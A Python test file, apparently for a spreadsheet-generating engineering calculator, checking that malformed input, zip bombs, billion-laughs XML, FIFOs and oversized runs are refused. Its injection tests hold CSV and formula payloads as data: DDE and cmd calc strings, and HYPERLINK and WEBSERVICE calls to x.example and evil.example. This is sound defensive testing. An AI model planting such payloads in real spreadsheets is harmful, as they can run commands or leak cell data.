"""Bad input by class, through the API and the command line: each is an error (exit 2) or a
visible result, never a silent wrong number, a hang, or a lost file."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from helpers.sheets import SINE

import workbook
from workbook import WorkbookError
from workbook.errors import InputError, LimitError
from workbook.functions import excel_names as xn
from workbook.language import units as un

CODE = "import sys; from workbook.cli import main; sys.exit(main())"


def cli(cwd: Path, *args: str, timeout: float = 120, fresh: bool = False):
    """Run the command line in ``cwd``: in this process, or (``fresh``) in a new interpreter
    with a timeout, for inputs that could block (FIFOs, devices)."""
    if fresh:
        return subprocess.run(
            [sys.executable, "-c", CODE, *args],
            capture_output=True,
            text=True,
            cwd=cwd,
            timeout=timeout,
        )
    import contextlib
    import io
    import warnings

    from workbook.cli import main

    out, err, old = io.StringIO(), io.StringIO(), os.getcwd()
    try:
        os.chdir(cwd)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            with warnings.catch_warnings():
                code = main(list(args))
    finally:
        os.chdir(old)
    return subprocess.CompletedProcess(args, code, out.getvalue(), err.getvalue())


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


# -- quantity text -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, message",
    [
        ("45,5 mm", "decimal comma; write a decimal point: '45.5 mm'"),
        ("45 5 mm", "has a number where a unit should be"),
        ("[1,2] m/s", "is not one value"),
        ("700 MPa MPa", "unit 'MPa' is written twice"),
        ("9**9**9 mm", "write the number itself"),
        ("2**2000 mm", "write the number itself"),
        ("1 mm^13", "power 13"),
        ("1 kg^        9**9**9", "raises a power to a power"),
        ("1 kg^9^9", "raises a power to a power"),
        ("1 ((kg^12)^12)^12", "[mass] to the power 1728"),
        ("1 m + 2 mm", "allowed only in an exponent"),
        ("mm", "it starts with no number"),
        ("4 furlongz", "'furlongz' is not a unit (did you mean furlong"),
        ("x" * 100_000, "characters long"),
    ],
)
def test_quantity_text_is_refused(text, message):
    un.registry()  # loaded once, outside the timing
    start = time.monotonic()
    with pytest.raises((InputError, LimitError)) as err:
        un.quantity(text, what="R3")
    assert message in str(err.value)
    assert time.monotonic() - start < 30  # a hang guard (9**9**9 ran for minutes), not a timing


@pytest.mark.parametrize(
    "text, value, unit",
    [
        ("45.5 mm", 45.5, "mm"),
        ("45.5mm", 45.5, "mm"),
        ("104.6 1/s", 104.6, "1/s"),
        ("1.5e-4 kg*m^2", 1.5e-4, "kg*m^2"),
        ("3 s^-2", 3, "1/s^2"),
        ("2 N m", 2, "N*m"),
        ("-1 mm", -1, "mm"),
    ],
)
def test_quantity_text_is_read(text, value, unit):
    q = un.quantity(text)
    assert q.magnitude == value
    assert q.units == un.unit(unit)


# -- Excel names ---------------------------------------------------------------------------


def test_excel_names_are_unique_ignoring_case():
    names = xn.ExcelNames(["d", "D", "k", "K", "g", "g_", "Rp", "rp", "R1", "a" * 300, "pi"])
    assigned = list(names.mapping.values())
    assert len({n.lower() for n in assigned}) == len(assigned)
    assert all(len(n) <= xn.MAX_NAME and not xn.needs_change(n) for n in assigned)
    assert names["Rp"] == "Rp" and names["g_"] == "g_"
    assert names["g"] not in ("g", "g_") and names["R1"] == "R1_"
    assert set(names.renamed) == {"d", "D", "k", "K", "g", "rp", "R1", "a" * 300, "pi"}


CASE_SHEET = """
[inputs]
d = "10 mm"
D = "30 mm"
k = "2"
K = "5"
g = "3"
g_ = "7"
Rp = "4 mm"
rp = "2 mm"

[definitions]
C = "D/d"
q = "K/k"
r = "g_/g"
ratio = "Rp/rp"
"""


@pytest.mark.slow  # starts LibreOffice
@pytest.mark.slow
def test_names_equal_but_for_case_recalculate_to_the_engine_values(tmp_path):
    from helpers.recalc import cell_values, recalculate, soffice

    sheet = workbook.load(write(tmp_path / "case.toml", CASE_SHEET))
    path = sheet.write_xlsx(tmp_path / "case.xlsx")
    wb = openpyxl.load_workbook(path)
    defined = list(wb.defined_names)
    assert len({n.lower() for n in defined}) == len(defined)
    if soffice() is None:
        pytest.skip("LibreOffice is not installed")
    values = cell_values(recalculate(path, tmp_path / "lo"))
    got = {values[("Results", f"A{r}")]: values[("Results", f"B{r}")] for r in range(2, 6)}
    assert got == pytest.approx({"C": 3.0, "q": 2.5, "r": 7 / 3, "ratio": 2.0})


# -- results nobody uses, findings -----------------------------------------------------------

SCALARS = """
[inputs]
rho = "1000 kg/m^3"
v = "2 m/s"
L = "100 mm"
mu = "1e-3 Pa*s"

[definitions]
Re = { expr = "rho*v*L/mu", note = "Reynolds number" }
half = "L/2"
"""


@pytest.mark.slow
def test_scalars_are_written_printed_and_simplified(tmp_path):
    write(tmp_path / "s.toml", SCALARS)
    out = cli(tmp_path, "run", "s.toml", "--out", "s.xlsx")
    assert out.returncode == 0, out.stderr
    assert "Re = 200000\n" in out.stdout and "half = 50 mm" in out.stdout
    ws = openpyxl.load_workbook(tmp_path / "s.xlsx", data_only=True)["Results"]
    rows = {r[0]: r[1:] for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows["Re"][:2] == (200000, "") and rows["Re"][3] == "Reynolds number"
    assert rows["half"][:2] == (50, "mm")
    check = cli(tmp_path, "check", "s.toml")
    assert check.returncode == 0 and "no printed values to check" in check.stdout
    assert "all printed values reproduced" not in check.stdout


# -- template keys and value types ------------------------------------------------------------


@pytest.mark.parametrize(
    "text, message",
    [
        ('[inputs]\nR = { value = "1 mm", postive = true }\n', "did you mean positive?"),
        ('[inputs]\nR = { value = "1 mm", unti = "cm" }\n', "did you mean unit?"),
        ('[sheet]\nabout = 5\n[inputs]\nR = "1 mm"\n', "about must be a table"),
        ('[inputs]\nR = { value = "a", options = 5 }\n', "options must be a list"),
        ('[inputs]\nR = "1 mm"\n[[printed]]\nfile = "x.csv"\ntolerance = "abc"\n', "a number"),
        (
            '[inputs]\nR = "1 mm"\n[[tables]]\nname = "t"\nrange = "x := 0 .. 1"\ncolums = {}\n',
            "did you mean columns?",
        ),
        ('[sweep]\noutput = { a = "R" }\n[inputs]\nR = "1 mm"\n', "did you mean outputs?"),
        ('[inputs]\nR_1 = "1 mm"\n[definitions]\nd = "2*R1"\n', "'R1' (did you mean R_1?)"),
        (
            '[arguments]\ntheta = { unit = "deg" }\n[definitions]\n"f(theta)" = "sin(thta)"\n',
            "'thta' (did you mean theta?)",
        ),
        ('[definitions]\nd = "sqr(2)"\n', "function 'sqr' (did you mean sqrt"),
    ],
)
def test_template_keys_and_types_are_checked(tmp_path, text, message):
    with pytest.raises(WorkbookError) as err:
        workbook.load(write(tmp_path / "t.toml", text))
    assert message in str(err.value)
    assert "t.toml" in str(err.value)


def test_a_byte_order_mark_is_accepted(tmp_path):
    path = tmp_path / "bom.toml"
    path.write_bytes(b"\xef\xbb\xbf" + b'[inputs]\nR = "2 mm"\n[definitions]\nd = "2*R"\n')
    assert workbook.load(path).evaluate("d").magnitude == 4


def test_a_template_name_that_is_a_file_here_is_suggested(tmp_path):
    write(tmp_path / "mine.toml", '[inputs]\nR = "1 mm"\n')
    out = cli(tmp_path, "run", "mine")
    assert out.returncode == 2 and "write ./mine.toml" in out.stderr


# -- files: devices, FIFOs, sizes, zip bombs -----------------------------------------------


PRINTED = '[inputs]\nR = "1 mm"\n[definitions]\nd = "2*R"\n[[printed]]\nfile = "p.csv"\n'


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param("fifo", marks=pytest.mark.slow),  # a fresh interpreter: a hang is caught
        pytest.param("device", marks=pytest.mark.slow),
        "sparse",
        "latin1",
        "dimension",
    ],
)
def test_printed_values_file_is_checked(tmp_path, kind):
    csv = tmp_path / "p.csv"
    if kind == "fifo":
        os.mkfifo(csv)
    elif kind == "device":
        csv.symlink_to("/dev/zero")
    elif kind == "sparse":
        with open(csv, "wb") as f:
            f.truncate(4 * 2**30)
    elif kind == "latin1":
        csv.write_bytes("name,argument,value,unit\nd,,2,mm # \xb5\n".encode("latin-1"))
    else:
        csv.write_text("name,argument,value,unit\nd,,2,kg\n")
    write(tmp_path / "t.toml", PRINTED)
    start = time.monotonic()
    out = cli(tmp_path, "check", "t.toml", timeout=60, fresh=kind in ("fifo", "device"))
    assert time.monotonic() - start < 30
    assert out.returncode == 2, out.stderr
    assert "Traceback" not in out.stderr
    expected = {
        "fifo": "not a regular file (a named pipe)",
        "device": "a link to a file outside the template's folder",  # /dev/zero
        "sparse": "limit exceeded",
        "latin1": "not UTF-8 text",
        "dimension": "but its printed unit 'kg' is [mass]",
    }[kind]
    assert expected in out.stderr


def _inputs_workbook(tmp_path) -> Path:
    write(tmp_path / "t.toml", '[inputs]\nR = "1 mm"\n[definitions]\nd = "2*R"\n')
    assert cli(tmp_path, "run", "t.toml", "--out", "t.xlsx").returncode == 0
    return tmp_path / "t.xlsx"


def _rezip(src: Path, dst: Path, replace: dict[str, bytes]) -> Path:
    import zipfile

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item.filename, replace.get(item.filename, zin.read(item.filename)))
    return dst


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["bomb", "xml", "nan", "shared", "laughs", "date", "comma"])
def test_inputs_workbook_is_checked(tmp_path, kind, monkeypatch):
    import zipfile

    good = _inputs_workbook(tmp_path)
    with zipfile.ZipFile(good) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    bad = tmp_path / "bad.xlsx"
    value = '<c r="B2" s="2"><v>1</v></c>'
    assert value in sheet, sheet[:2000]
    if kind == "bomb":
        from workbook import limits

        monkeypatch.setattr(limits, "MAX_XLSX_MEMBER_BYTES", 1_000_000)  # 64 MB in use
        _rezip(good, bad, {"xl/styles.xml": b" " * 2_000_000})
    elif kind == "xml":
        _rezip(good, bad, {"xl/worksheets/sheet1.xml": sheet.replace(value, "<c r=").encode()})
    elif kind == "nan":
        text = sheet.replace(value, '<c r="B2" s="1"><v>NaN</v></c>')
        _rezip(good, bad, {"xl/worksheets/sheet1.xml": text.encode()})
    elif kind == "shared":
        text = sheet.replace(value, '<c r="B2" t="s"><v>99999</v></c>')
        _rezip(good, bad, {"xl/worksheets/sheet1.xml": text.encode()})
    elif kind == "laughs":
        dtd = (
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        )
        text = dtd + sheet.split("?>", 1)[1].replace(
            value, '<c r="B2" t="inlineStr"><is><t>&lol2;</t></is></c>'
        )
        _rezip(good, bad, {"xl/worksheets/sheet1.xml": text.encode()})
    elif kind in ("date", "comma"):
        wb = openpyxl.load_workbook(good)
        import datetime

        wb["Inputs"]["B2"] = datetime.date(2024, 1, 2) if kind == "date" else "1,5"
        wb.save(bad)
    out = cli(tmp_path, "run", "t.toml", "--inputs", "bad.xlsx", "--out", "new.xlsx")
    assert out.returncode == 2, out.stderr
    assert "Traceback" not in out.stderr and not (tmp_path / "new.xlsx").exists()
    expected = {
        "bomb": "limit exceeded",
        "date": "Inputs!B2: R holds a date",
        "comma": "decimal comma",
    }.get(kind, "cannot read it as an xlsx workbook")  # NaN: openpyxl refuses it itself
    assert expected in out.stderr


@pytest.mark.slow
def test_outputs_that_are_not_regular_files_are_refused(tmp_path):
    write(tmp_path / "t.toml", '[inputs]\nR = "1 mm"\n[definitions]\nd = "2*R"\n')
    os.mkfifo(tmp_path / "fifo.xlsx")
    out = cli(tmp_path, "run", "t.toml", "--out", "fifo.xlsx", timeout=60, fresh=True)
    assert out.returncode == 2 and "a named pipe" in out.stderr
    (tmp_path / "dev.xlsx").symlink_to("/dev/null")
    out = cli(tmp_path, "run", "t.toml", "--out", "dev.xlsx", "--force", timeout=60, fresh=True)
    assert out.returncode == 2 and "a character device" in out.stderr
    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null")
    out = cli(tmp_path, "run", "t.toml", "--out", "x.csv")
    assert out.returncode == 2 and "name it *.xlsx" in out.stderr
    out = cli(tmp_path, "run", "t.toml", "--out", "x" * 300 + ".xlsx")
    assert out.returncode == 2 and "File name too long" in out.stderr


# -- injection ---------------------------------------------------------------------------------

INJECT = (
    SINE
    + """
[[tables]]
name = "t"
title = "=HYPERLINK(\\"http://x\\")"
range = "phi := 0, 30 .. 90"
columns = [
  { expr = "y", unit = "mm", title = "=1+1" },
  { expr = "2*y(phi)", unit = "mm", title = "http://example.com" },
]

[[charts]]
name = "c"
title = "=SUM(1)"
range = "phi := 0 .. 90"
x = { expr = "phi", title = "@x" }
y_title = "+y"
series = [{ y = "y", unit = "mm", name = "=A1" }]
"""
)


@pytest.mark.slow
def test_labels_are_text_never_formulas_or_links(tmp_path):
    write(tmp_path / "t.toml", INJECT)
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t")
    assert out.returncode == 0, out.stderr
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    ws = wb["Listing"]
    assert ws["A1"].value == '=HYPERLINK("http://x")' and ws["A1"].data_type == "s"
    assert ws["B2"].value == "=1+1 [mm]" and ws["B2"].data_type == "s"
    assert ws["C2"].data_type == "s" and not ws._hyperlinks
    import zipfile

    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        chart = z.read("xl/charts/chart1.xml").decode()
    assert "<c:f>Charts!$P$2</c:f>" in chart or "Charts!$P$" in chart
    assert "SUM(1)" not in chart.replace("=SUM(1)", "")
    lines = (tmp_path / "t.t.csv").read_text().splitlines()
    assert lines[0].startswith("phi [deg],'=1+1 [mm],http://example.com [mm]")


@pytest.mark.slow
def test_csv_and_export_overwrite_only_with_force(tmp_path):
    write(tmp_path / "t.toml", INJECT)
    (tmp_path / "t.t.csv").write_text("keep\n")
    before = None
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t")
    assert out.returncode == 2 and "--force" in out.stderr
    assert (tmp_path / "t.t.csv").read_text() == "keep\n"
    assert not (tmp_path / "t.xlsx").exists(), before  # nothing replaced before the check
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t", "--csv", "nosuch")
    assert out.returncode == 2 and not (tmp_path / "t.xlsx").exists()
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t", "--force")
    assert out.returncode == 0 and (tmp_path / "t.t.csv").read_text() != "keep\n"


def test_every_sheet_key_the_engine_reads_is_a_known_key():
    import re

    from workbook.language.spec import SHEET_KEYS

    source = Path(workbook.__file__).parent
    read = {
        m.group(1)
        for path in source.rglob("*.py")
        for m in re.finditer(r"meta(?:\.get\(|\[)\"(\w+)\"", path.read_text(encoding="utf-8"))
    }
    assert read and read <= set(SHEET_KEYS), read - set(SHEET_KEYS)


@pytest.mark.slow
def test_data_table_file_is_checked(tmp_path):
    os.mkfifo(tmp_path / "p.csv")
    write(
        tmp_path / "t.toml",
        '[data.pump]\nfile = "p.csv"\ncolumns = { x = "mm" }\n[inputs]\nR = "1 mm"\n',
    )
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", timeout=60, fresh=True)
    assert out.returncode == 2 and "not a regular file (a named pipe)" in out.stderr


# -- sweep: scheduler and workers ------------------------------------------------------------


@pytest.mark.parametrize("address", ["http://x:1", "tcp://:80", "tcp://h:99999", "inproc://x", 5])
def test_a_scheduler_address_is_checked(address):
    from workbook.sweep.runners import check_scheduler

    with pytest.raises(InputError, match="tcp://HOST:PORT"):
        check_scheduler(address, 1.0)


@pytest.mark.slow
def test_a_server_that_is_not_a_scheduler_is_refused_within_the_timeout():
    import socket
    import threading

    from workbook.sweep.runners import check_scheduler

    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    accepted = []
    thread = threading.Thread(target=lambda: accepted.append(server.accept()), daemon=True)
    thread.start()  # accepts, then says nothing (as a web server waiting for a request)
    start = time.monotonic()
    try:
        with pytest.raises(InputError, match="no Dask handshake within 1 s"):
            check_scheduler(f"tcp://127.0.0.1:{port}", 1.0)
    finally:
        server.close()
    assert time.monotonic() - start < 30  # a hang guard (it waited forever), not a timing


def test_workers_are_at_most_the_cpu_count(capsys):
    from workbook.sweep.runners import pool_size

    assert pool_size(100_000) == (os.cpu_count() or 1)
    assert "more than the" in capsys.readouterr().err
    with pytest.raises(InputError):
        pool_size(0)


def test_no_command_replaces_a_fifo(tmp_path):
    os.mkfifo(tmp_path / "new.toml")
    out = cli(tmp_path, "new", "new", "--out", "new.toml", "--force")  # stat only: no hang
    assert out.returncode == 2 and "a named pipe" in out.stderr
    assert not (tmp_path / "new.toml").is_file()


# -- piecewise definitions at their edges --------------------------------------------------

CHOICE_DIFF = """
[inputs]
mode = { value = "a", options = ["a", "b"] }
[arguments]
x = { unit = "" }
[definitions]
"f(x)" = ["2*x if mode == \\"a\\"", "3*x otherwise"]
"g(x)" = "diff(f(x), x)"
"""

NO_PIECE = """
[inputs]
a = "5"
[definitions]
s = ["1 if a < 2", "2 if a < 3"]
"""


def test_a_derivative_across_a_condition_on_a_choice_is_refused(tmp_path):
    # Found once per sheet for every value of the input, the derivative cannot know the word:
    # comparing a symbol with it silently took the last piece (3 for mode a).
    path = write(tmp_path / "d.toml", CHOICE_DIFF)
    with pytest.raises(WorkbookError, match="choice 'mode'"):
        workbook.load(path).evaluate("g", x=1)
    out = cli(tmp_path, "run", str(path), "--out", str(tmp_path / "d.xlsx"))
    assert out.returncode == 2 and "choice 'mode'" in out.stderr


@pytest.mark.slow
def test_a_scalar_piecewise_with_no_true_piece_is_an_input_error(tmp_path):
    path = write(tmp_path / "p.toml", NO_PIECE)
    with pytest.raises(InputError, match="no piece applies") as err:
        workbook.load(path).evaluate("s")
    assert err.value.definition == "s" and err.value.line == 5
    # a scalar no table uses is listed by run with its error, not left out
    out = cli(tmp_path, "run", str(path), "--out", str(tmp_path / "p.xlsx"))
    assert "s: error: no piece applies" in out.stdout
    # a table that needs it stops the run with the location
    write(path, NO_PIECE + '[[tables]]\nname = "t"\nrange = "x := 0 .. 2"\ncolumns = { s = "" }\n')
    out = cli(tmp_path, "run", str(path), "--out", str(tmp_path / "p.xlsx"))
    assert out.returncode == 2 and "no piece applies" in out.stderr and "p.toml:5" in out.stderr


PIECES_IN_DEGREES = """
[arguments]
theta = { unit = "deg" }
[definitions]
"f(theta)" = { expr = ["90 if theta > 90", "theta otherwise"], unit = "deg" }
"g(theta)" = ["theta if theta < 90", "90 otherwise"]
"""


def test_a_bare_number_among_pieces_in_degrees_is_in_degrees(tmp_path):
    # "90 otherwise" beside theta in deg was 90 rad = 5156.6 deg
    sheet = workbook.load(write(tmp_path / "a.toml", PIECES_IN_DEGREES))
    for name in ("f", "g"):
        got = sheet.evaluate(name, theta=[45, 120])
        assert str(got.units) == "degree"
        assert list(got.magnitude) == [45.0, 90.0]


# -- injection: CSV cells and chart labels -------------------------------------------------

CSV_PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://x.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _csv_rows(path: Path) -> list[list[str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("dtype", [object, "str", "category"])
def test_every_text_cell_of_a_csv_is_escaped_whatever_its_dtype(tmp_path, dtype):
    # pandas 3 gives text columns the dtype str: escaping only dtype object wrote them raw
    import pandas as pd

    from workbook.outputs.atomic import write_csv

    texts = [*CSV_PAYLOADS, "plain", "x=1"]
    frame = pd.DataFrame({"=label": pd.Series(texts, dtype=dtype), "n": range(len(texts))})
    write_csv(frame, tmp_path / "t.csv")
    rows = _csv_rows(tmp_path / "t.csv")
    assert rows[0] == ["'=label", "n"]
    for text, (cell, n) in zip(texts, rows[1:]):
        assert cell == ("'" + text if text in CSV_PAYLOADS else text)
        assert n == str(texts.index(text))


INJECT_LABELS = r"""
[inputs]
R = "2 mm"
mode = { value = "-2+3", options = ["-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"] }

[arguments]
phi = { unit = "deg" }

[definitions]
"y(phi)" = "R*sin(phi)"
"v(phi)" = "\"=HYPERLINK(\\\"http://x.example\\\")\" if phi < 45 otherwise \"\t=1+1\""

[[tables]]
name = "t"
range = "phi := 0, 30 .. 90"
columns = [{ expr = "y", unit = "mm" }, { expr = "v" }]

[[charts]]
name = "c"
title = "'\\\\evil.example\\s\\[x.xlsx]S'!A1"
range = "phi := 0 .. 90"
x = { expr = "phi", title = "Inputs!B2" }
y_title = "cmd|' /C calc'!A0"
series = [{ y = "y", unit = "mm", name = "=DDE(\"cmd\";\"/C calc\";\"x\")" }]
"""

CHART_LABELS = [
    "'\\\\evil.example\\s\\[x.xlsx]S'!A1",
    "Inputs!B2",
    "cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
]


def _chart_references(path: Path) -> list[str]:
    import re
    import zipfile

    with zipfile.ZipFile(path) as z:
        assert not [n for n in z.namelist() if "externalLink" in n]
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/")]
    return [f for chart in charts for f in re.findall(r"<c:f>([^<]*)</c:f>", chart)]


def test_text_cells_and_chart_labels_of_a_run_stay_text(tmp_path):
    write(tmp_path / "t.toml", INJECT_LABELS)
    out = cli(tmp_path, "run", "t.toml", "--out", "t.xlsx", "--csv", "t")
    assert out.returncode == 0, out.stderr
    rows = _csv_rows(tmp_path / "t.t.csv")
    assert [r[2] for r in rows[1:]] == ['\'=HYPERLINK("http://x.example")'] * 2 + ["'\t=1+1"] * 2
    # every chart label that xlsxwriter would read as a reference is a text cell referred to
    refs = _chart_references(tmp_path / "t.xlsx")
    labels = [r for r in refs if r.startswith("Charts!$P$")]
    assert len(labels) == 4
    assert all(r in labels or r.startswith("'Chart data'!") for r in refs), refs
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Charts"]
    texts = [ws[r.split("!")[1].replace("$", "")] for r in labels]
    assert all(c.data_type == "s" for c in texts)
    assert sorted(c.value for c in texts) == sorted(CHART_LABELS)


@pytest.mark.slow
def test_sweep_choice_values_and_chart_labels_stay_text(tmp_path):
    write(tmp_path / "t.toml", INJECT_LABELS)
    vary = ["--vary", "mode=-2+3,@SUM(A1)", "--vary", "R=1mm,2mm", "--output", "q=y(0.5)"]
    out = cli(tmp_path, "sweep", "t.toml", *vary, "--out", "s.csv")
    assert out.returncode == 0, out.stderr
    assert [r[0] for r in _csv_rows(tmp_path / "s.csv")[1:]] == ["'-2+3"] * 2 + ["'@SUM(A1)"] * 2
    out = cli(
        tmp_path, "sweep", "t.toml", *vary[:2], "--output", "cmd|' /C calc'!A0=R", "--out", "s.xlsx"
    )
    assert out.returncode == 2  # not a name: refused before any label is written
    out = cli(tmp_path, "sweep", "t.toml", *vary, "--out", "s.xlsx")
    assert out.returncode == 0, out.stderr
    refs = _chart_references(tmp_path / "s.xlsx")
    assert all(r.startswith("Sweep!") for r in refs), refs


# -- run-time arrays are values ------------------------------------------------------------

ARRAYS_ARE_VALUES = r'''
[arguments]
n = { unit = "" }

[definitions]
"kept(n)" = { program = """
w := 0
k := 0
while k < 3
    w[k] := k + 1
    k := k + 1
T := [w, 1]
w[0] := n
T[0][0]
""" }
"shown(n)" = { program = """
w := 0
k := 0
while k < 2
    w[k] := k + 1
    k := k + 1
w
w[0] := n
""" }
"appended(n)" = { program = """
w := 0
for k in 1 .. n
    w[rows(w)] := k
    a := w
a[rows(a)] := 99
w[rows(w)] := 7
[a[n], w[n], rows(a), rows(w), sum(w[i], i, 0, n - 1)]
""" }
'''


def test_an_array_stays_what_it_was_when_a_local_changes_later(tmp_path):
    # an array stored in another kept a reference to the local: T[0][0] became 99; the last
    # value line gave the local as it was at the end, not as that line saw it
    sheet = workbook.load(write(tmp_path / "v.toml", ARRAYS_ARE_VALUES))
    assert float(sheet.evaluate("kept", n=99).magnitude) == 1.0
    assert list(np.ravel(sheet.evaluate("shown", n=99).magnitude)) == [1.0, 2.0]
    # appends grow into spare room of the array; a copy of it is its own
    n = 1000
    got = list(np.ravel(sheet.evaluate("appended", n=n).magnitude))
    assert got == [99.0, 7.0, n + 1, n + 1, n * (n + 1) / 2]


# -- exit 3 cases that are input errors ----------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["cspline", "linterp"])
def test_data_too_large_for_doubles_is_a_numerical_error(tmp_path, kind):
    # the spline's slopes overflowed: scipy's ValueError was an internal error (exit 3)
    write(tmp_path / "p.csv", "x,y\n0,-1e308\n1,1e308\n2,0\n3,1e308\n")
    write(
        tmp_path / "d.toml",
        '[inputs]\nu = "1.5 m"\n[data.pump]\nfile = "p.csv"\ncolumns = { x = "m", y = "m" }\n'
        f'[definitions]\na = "{kind}(x, y, u)"\n',
    )
    out = cli(tmp_path, "run", "d.toml", "--out", "d.xlsx")
    assert out.returncode == 2, out.stderr
    assert "d.toml:7, in 'a': numerical error" in out.stderr and "overflows" in out.stderr


@pytest.mark.slow
def test_a_tls_scheduler_without_tls_settings_is_an_input_error(tmp_path, monkeypatch):
    pytest.importorskip("distributed")
    for key in list(os.environ):
        if key.startswith("DASK_DISTRIBUTED__COMM__TLS"):
            monkeypatch.delenv(key)
    write(tmp_path / "t.toml", INJECT_LABELS)
    args = ["--vary", "R=1mm,2mm", "--output", "q=y(0.5)", "--out", "s.csv"]
    out = cli(tmp_path, "sweep", "t.toml", *args, "--scheduler", "tls://127.0.0.1:9")
    assert out.returncode == 2 and "needs Dask's TLS settings" in out.stderr, out.stderr
    assert not (tmp_path / "s.csv").exists()


ODE_BUDGET = """
[inputs]
k = "2 1/s"
y0 = "1 m"
budget = "{time}"
t_end = "3 s"

[arguments]
t = {{ unit = "s" }}

[[ode]]
name = "decay"
time = "t := 0 .. 3"
max_time = {max_time}
max_steps = {max_steps}
states = [{{ name = "y", unit = "m", initial = "y0", derivative = "-k*y" }}]

[definitions]
y_end = "y(t_end)"
"""


@pytest.mark.parametrize(
    ("max_time", "max_steps", "message"),
    [
        ("1e9", "1000", "max_time = 1e+09 s (limit 30 s)"),
        ("10", "1e12", "max_steps = 1,000,000,000,000 (limit 1,000,000)"),
        ('"budget"', "1000", "max_time = 1e+09 s (limit 30 s)"),
    ],
)
def test_a_worksheet_cannot_raise_the_budget_of_an_ode_run(tmp_path, max_time, max_steps, message):
    # max_time = 1e9 and max_steps = 1e12 were still running after 240 s
    text = ODE_BUDGET.format(time="1e9 s", max_time=max_time, max_steps=max_steps)
    with pytest.raises(LimitError, match=re.escape(message)):
        workbook.load(write(tmp_path / "o.toml", text)).evaluate("y_end")
    lowered = ODE_BUDGET.format(time="5 s", max_time='"budget"', max_steps="10000")
    y = workbook.load(write(tmp_path / "o.toml", lowered)).evaluate("y_end")
    assert float(y.to("m").magnitude) == pytest.approx(np.exp(-6), rel=1e-5)


FAMILY = """
[inputs]
c = "2"
[arguments]
x = { unit = "" }
[definitions]
"y(x)" = "c*x"
[[tables]]
name = "f"
range = "x := 0, 1 .. LAST"
vary = { c = VALUES }
columns = { y = "" }
"""


@pytest.mark.slow
def test_a_family_table_is_checked_before_its_curves_are_computed(tmp_path):
    # 50 curves x 2e6 rows built 1.66 GB before the row check refused the table
    from workbook.engine.sheet import MAX_FAMILY_CELLS

    values = "[" + ", ".join(f'"{k}"' for k in range(1, 51)) + "]"
    path = write(tmp_path / "f.toml", FAMILY.replace("LAST", "39999").replace("VALUES", values))
    with pytest.raises(LimitError, match=f"is 2,000,000 values \\(limit {MAX_FAMILY_CELLS:,}\\)"):
        workbook.load(path).table("f")
    write(path, FAMILY.replace("LAST", "1999999").replace("VALUES", '["1", "2"]'))
    out = cli(tmp_path, "run", "f.toml", "--out", "f.xlsx")
    assert out.returncode == 2 and "table f has 2,000,000 rows" in out.stderr
    assert "f.toml:" in out.stderr and "in 'table f'" in out.stderr, out.stderr  # located
    write(path, FAMILY.replace("LAST", "99").replace("VALUES", '["1", "2"]'))
    table = workbook.load(path).table("f")
    assert table.shape == (100, 3) and table.iloc[99, 2] == 2 * 99


@pytest.mark.slow
def test_a_sweep_is_bounded_before_any_case_runs(tmp_path):
    # 10^6 cases took 148 s; a maximum over 1.9e6 points x 1e4 cases ran past 60 s
    from workbook.sweep.driver import MAX_SWEEP_POINTS
    from workbook.sweep.grid import MAX_CASES

    write(tmp_path / "t.toml", INJECT_LABELS)
    many = f"R=1mm..2mm:{MAX_CASES + 1}"
    out = cli(tmp_path, "sweep", "t.toml", "--vary", many, "--output", "q=y(0.5)", "--out", "s.csv")
    assert out.returncode == 2 and f"is more than {MAX_CASES:,}" in out.stderr, out.stderr
    reduce = "q=max of y(phi) over phi := 0 .. 1.9e6"
    args = ["--vary", "R=1mm..2mm:10000", "--output", reduce, "--out", "s.csv"]
    out = cli(tmp_path, "sweep", "t.toml", *args)
    assert out.returncode == 2 and f"(limit {MAX_SWEEP_POINTS:,})" in out.stderr, out.stderr
    assert "19,000,010,000 points" in out.stderr and not (tmp_path / "s.csv").exists()
    assert "t.toml, in 'sweep output q'" in out.stderr  # --output's: the file, no line


def test_sweep_values_converted_at_once_equal_one_by_one(tmp_path):
    # the values of a vector sweep are converted in one array (not one pint call a case):
    # bit for bit what the serial mode gives, a value out of bounds failing its case only
    from workbook import sweep as sw

    text = INJECT_LABELS.replace('R = "2 mm"', 'R = { value = "2 mm", max = "3 cm" }')
    sheet = workbook.load(write(tmp_path / "t.toml", text))
    vary = {"R": ["0.1 in", "1.3 cm", "29.7 mm", "3.1 cm", "7 mm"]}
